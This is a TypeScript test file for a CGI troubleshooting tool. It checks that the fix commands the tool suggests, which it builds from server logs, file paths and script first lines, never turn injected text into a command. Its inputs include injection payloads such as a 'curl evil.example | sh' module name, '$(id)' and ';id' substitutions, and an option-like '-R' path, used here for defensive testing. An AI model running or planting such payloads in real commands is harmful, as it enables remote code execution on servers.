// The advice of the examination: commands that a reader may paste into a shell, whatever a script, a log or a path holds.

import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { ownAccount } from '../../src/doctor/account.ts';
import type { Mend } from '../../src/doctor/finding.ts';
import { examine } from '../../src/doctor/index.ts';
import { examineStart } from '../../src/doctor/interpreter.ts';
import { findCause } from '../../src/doctor/log.ts';
import { examineResponse } from '../../src/doctor/response.ts';
import { UNKNOWN_SERVER } from '../../src/doctor/server/facts.ts';
import { readServer } from '../../src/doctor/server/index.ts';
import { readLogs } from '../../src/doctor/server/log.ts';
import { withFolder } from '../cli/command.ts';

const { folder } = withFolder({});

const commandsOf = (mend: readonly Mend[]) => mend.flatMap((one) => ('run' in one ? [one.run] : []));

const startOf = (path: string, start: string) =>
  examineStart({ path, start, account: ownAccount(), server: UNKNOWN_SERVER, suexec: false });

describe('a module that is missing', () => {
  const install = (what: string) =>
    `${what} in the folder of the sources, and build the script again; or install it beside the script, where the server shows no files of that folder.`;
  const build = { run: 'npx run-with-cgi build /srv/cgi-bin/app.mjs -o /srv/cgi-bin/app.cgi' };

  test.each([
    ["Error: Cannot find module 'lodash'", install('Run "npm install lodash"')],
    ["Error: Cannot find module 'lodash/fp'", install('Run "npm install lodash"')],
    ["Error: Cannot find package '@hono/node-server/vercel' imported from", install('Run "npm install @hono/node-server"')],
    ["Error: Cannot find module 'x; curl evil.example | sh #'", install('Install the package that has the module')],
    ["Error: Cannot find module '$(id)'", install('Install the package that has the module')],
    ["Error: Cannot find module '-g'", install('Install the package that has the module')],
    ["Error: Cannot find module 'https://evil.example/x'", install('Install the package that has the module')],
    ["Error: Cannot find module 'x.tgz'", install('Install the package that has the module')],
  ])('%s', (log, change) => {
    expect(findCause(log, '/srv/cgi-bin/app.mjs')?.mend).toEqual([{ change }, build]);
  });

  test.each([
    ["Can't locate Foo/Bar.pm in @INC", { run: 'cpan Foo::Bar' }],
    ["Can't locate Foo/$(id).pm in @INC", { change: 'Install the file into a folder of @INC.' }],
    ["Can't locate Foo;id.pm in @INC", { change: 'Install the file into a folder of @INC.' }],
    [
      "ModuleNotFoundError: No module named 'yaml'",
      { change: 'Install the package that has the module, with the pip of that python. Its name may differ from that of the module.' },
    ],
    [
      'cannot load such file -- x;id (LoadError)',
      { change: 'Install the gem that has the file, for all users. Its name may differ from that of the file.' },
    ],
  ])('%s', (log, mend) => {
    expect(findCause(log, '/srv/cgi-bin/app')?.mend).toEqual([mend]);
  });

  test.each([
    "Error: Cannot find module 'x; curl evil.example | sh #'",
    "Can't locate Foo/Bar.pm in @INC",
    "Error: EACCES: permission denied, open '/etc/x'",
    'SyntaxError: Cannot use import statement outside a module',
  ])("no command is made of a line in a server's log: %s", (message) => {
    const log = join(folder, 'error.log');
    writeFileSync(log, `[cgi:error] AH01215: ${message}: /srv/cgi-bin/app.cgi\n`);
    const [finding, ...more] = readLogs([log], '/srv/cgi-bin/app.cgi', []);
    expect(more).toEqual([]);
    expect(finding?.mend.map((one) => Object.keys(one))).toEqual([['change']]);
  });
});

test('a path that begins with "-" is no option of a command', () => {
  const [command = ''] = commandsOf(findCause("EACCES: permission denied, open '-R'", '/srv/app.cgi')?.mend ?? []);
  expect(command).toBe("ls -ld -- '-R'; namei -m -- '-R'");
});

describe('a command takes a path as one word', () => {
  const own = join(folder, 'x y');
  mkdirSync(own);
  const path = join(own, "a b;c'd.cgi");
  const programs = ['cat', 'chmod', 'iconv', 'ls', 'mkdir', 'mv', 'namei', 'npx', 'sed', 'sudo'];
  const functions = programs.map((name) => `${name}() { printf '%s\\n' "$@" >&3; }\n`).join('');
  const unseen: string[] = [];
  readLogs([join(own, 'no log')], path, unseen);
  const sudo = unseen[0]?.replace(/^.*?: (?=sudo)/, '') ?? '';
  const start = `Content-Type: text/plain\n\n`;
  const commands = [
    sudo,
    ...readServer('busybox', path).findings.flatMap(({ mend }) => commandsOf(mend)),
    ...['\xef\xbb\xbf', ''].flatMap((mark) =>
      examineResponse(Buffer.from(`${mark}${start}`, 'latin1'), path, 'GET', 'GET').findings.flatMap(({ mend }) => commandsOf(mend)),
    ),
    ...[
      '\xff\xfe',
      '\xef\xbb\xbf#!/bin/sh\n',
      '\n#!/bin/sh\n',
      '#!/bin/sh\r\n',
      '#!"/bin/sh"\n',
      '#!sh\n',
      '#!/usr/bin/env sh -e\n',
      'x\n',
    ].flatMap((text) => startOf(path, text).findings.flatMap(({ mend }) => commandsOf(mend))),
    ...["Cannot find module 'x'", 'Unknown file extension ".cgi"', '__dirname is not defined in ES module scope'].flatMap((log) =>
      commandsOf(findCause(log, path)?.mend ?? []),
    ),
  ];

  test('there are enough of them', () => expect(commands.length).toBeGreaterThan(12));

  test.each(commands)('%s', (command) => {
    execFileSync('sh', ['-n', '-c', command]);
    const words = execFileSync('/bin/sh', ['-c', `exec 3>&1\n${functions}${command}`], {
      encoding: 'utf8',
      env: { PATH: '/nowhere' },
    }).split('\n');
    const paths = words.filter((word) => /a b|c'd|x y/.test(word));
    const stem = path.slice(0, -'.cgi'.length);
    const expected = [
      path,
      "a b;c'd.cgi",
      join(own, 'no log'),
      join(own, 'cgi-bin'),
      join(own, "cgi-bin/a b;c'd.cgi"),
      `${path}.new`,
      ...['.mjs', '.cjs', '.built.cgi'].map((ending) => stem + ending),
    ];
    expect(paths.length).toBeGreaterThan(0);
    expect(paths.filter((word) => !expected.includes(word))).toEqual([]);
  });

  test('and sed writes an interpreter as it is', () => {
    const bin = join(own, 'a|b&c\\d');
    mkdirSync(bin);
    writeFileSync(join(bin, 'mynode'), '#!/bin/sh\n');
    chmodSync(join(bin, 'mynode'), 0o755);
    const before = process.env.PATH;
    process.env.PATH = `${bin}:${before}`;
    try {
      for (const text of ['#!/usr/bin/env mynode\n', '#!mynode\n']) {
        writeFileSync(path, `${text}rest\n`);
        for (const command of startOf(path, text).findings.flatMap(({ mend }) => commandsOf(mend))) execFileSync('sh', ['-c', command]);
        expect(readFileSync(path, 'utf8')).toBe(`#!${bin}/mynode\nrest\n`);
      }
    } finally {
      process.env.PATH = before;
    }
  });
});

describe('what a script writes', () => {
  const findingsOf = (text: string, path = '/srv/cgi-bin/app.cgi') => examineResponse(Buffer.from(text), path, 'GET', 'GET').findings;

  test('is shown as UTF-8, and as ISO-8859-1 where it is no UTF-8', () => {
    const [utf8] = findingsOf('héllo\n\n');
    expect({ problem: utf8?.problem.slice(0, 42), evidence: utf8?.evidence }).toEqual({
      problem: 'The first line of the output is "héllo", w',
      evidence: 'héllo\n\n',
    });
    const [latin1] = examineResponse(Buffer.from('héllo\n\n', 'latin1'), '/app.cgi', 'GET', 'GET').findings;
    expect(latin1?.evidence).toBe('héllo\n\n');
  });

  test('is cut between two characters', () => {
    expect(findingsOf(`${'é'.repeat(200)}\n\n`)[0]?.evidence).toBe('é'.repeat(149));
    expect(findingsOf(`x${'é'.repeat(200)}\n\n`)[0]?.evidence).toBe(`x${'é'.repeat(149)}`);
  });

  test('may have a framing of its own where the name begins with nph-', () => {
    const head = 'Content-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n';
    expect(findingsOf(`HTTP/1.1 200 OK\r\n${head}2\r\nhi\r\n0\r\n\r\n`, '/srv/cgi-bin/nph-app.cgi')).toEqual([]);
    expect(findingsOf(`${head}hi`).map(({ code }) => code)).toEqual(['transfer-encoding', 'header-hop-by-hop']);
  });
});

test('a script that is a link to nothing is called that', async () => {
  const link = join(folder, 'link.cgi');
  symlinkSync(join(folder, 'nothing'), link);
  const { unseen } = await examine(link, { account: ownAccount(), runs: false });
  expect(unseen).toEqual([`${link} is a link that leads nowhere, so its format and its first line were not examined.`]);
});

describe('a new first line keeps the words behind the program', () => {
  const bin = join(folder, 'programs');
  mkdirSync(bin);
  writeFileSync(join(bin, 'mynode'), '#!/bin/sh\n');
  chmodSync(join(bin, 'mynode'), 0o755);

  test.each([
    ['#!/usr/bin/env mynode', `#!${bin}/mynode`],
    ['#!/usr/bin/env -S mynode --disable-warning=X', `#!${bin}/mynode --disable-warning=X`],
    ['#!/usr/bin/env -Smynode --a --b', `#!/usr/bin/env -S ${bin}/mynode --a --b`],
    ['#!/usr/bin/env -S A=1 mynode --a', `#!/usr/bin/env -S A=1 ${bin}/mynode --a`],
    ['#!/opt/nowhere/mynode --a', `#!${bin}/mynode --a`],
    ['#!mynode --a', `#!${bin}/mynode --a`],
    ['#!/opt/nowhere/env mynode', '#!/usr/bin/env mynode'],
  ])('%s', (line, expected) => {
    const path = join(folder, 'options.cgi');
    writeFileSync(path, `${line}\nrest\n`);
    const before = process.env.PATH;
    process.env.PATH = `/usr/bin:${bin}:${before}`;
    try {
      for (const command of startOf(path, `${line}\nrest\n`).findings.flatMap(({ mend }) => commandsOf(mend)))
        execFileSync('sh', ['-c', command]);
    } finally {
      process.env.PATH = before;
    }
    expect(readFileSync(path, 'utf8')).toBe(`${expected}\nrest\n`);
  });
});

describe('CRLF', () => {
  test('behind an argument of the interpreter may fail, and the script is run', async () => {
    const path = join(folder, 'perl.cgi');
    writeFileSync(path, '#!/usr/bin/perl -w\r\nprint "Content-Type: text/plain\\n\\nhello\\n";\r\n');
    chmodSync(path, 0o755);
    const { findings, answers } = await examine(path, { account: ownAccount() });
    const [finding] = findings;
    expect({ code: finding?.code, severity: finding?.severity }).toEqual({ code: 'interpreter-line-crlf', severity: 'may-fail' });
    expect(finding?.problem).toContain('the argument "-w\\r"');
    expect(answers[0]).toContain(': 200');
  });

  test('in a built file is mended by another copy', () => {
    const { findings } = startOf('/srv/cgi-bin/app.cgi', '#!/bin/sh -\r\n":" //; exec node\r\n');
    expect(findings.map(({ severity, mend }) => [severity, mend])).toEqual([
      ['fails', [{ change: 'Copy the file anew in binary mode, or build it on this machine.' }]],
    ]);
  });
});
